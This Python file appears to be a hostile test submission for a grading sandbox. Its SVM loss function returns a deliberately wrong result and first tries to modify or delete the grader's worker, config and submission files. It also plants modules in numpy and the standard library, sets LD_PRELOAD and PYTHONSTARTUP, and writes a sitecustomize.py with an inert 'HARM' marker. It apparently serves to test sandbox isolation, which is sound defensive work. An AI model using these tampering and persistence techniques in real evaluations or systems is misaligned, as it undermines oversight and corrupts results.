"""Rewrites the files of its worker, and leaves modules for the next one to import."""

import contextlib
import os
import sys

import kit
import numpy as np


@kit.once
def attack():
    here = os.path.dirname(os.path.abspath(__file__))
    folder = os.path.dirname(here)
    names = (
        "worker.py",
        "wire.py",
        "config.json",
        "site/usercustomize.py",
        "submission/submission.py",
    )
    for path in [f"{folder}/{name}" for name in names] + [f"{here}/new.py", f"{folder}/new.py"]:
        kit.attempt(f"wrote {path}", open, path, "a")
        kit.attempt(f"removed {path}", os.remove, path)
    for root in (np.__path__[0], os.path.dirname(os.__file__), sys.prefix):
        kit.attempt(f"wrote into {root}", open, f"{root}/linclf_hostile.py", "w")
    os.environ["LD_PRELOAD"] = os.environ["PYTHONSTARTUP"] = os.path.abspath("left_over.so")
    with contextlib.suppress(OSError), open("sitecustomize.py", "w") as module:
        module.write("import os; os.write(1, b'HARM: left over\\n')")
    with contextlib.suppress(OSError), open("left_over.so", "w") as library:
        library.write("x")


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
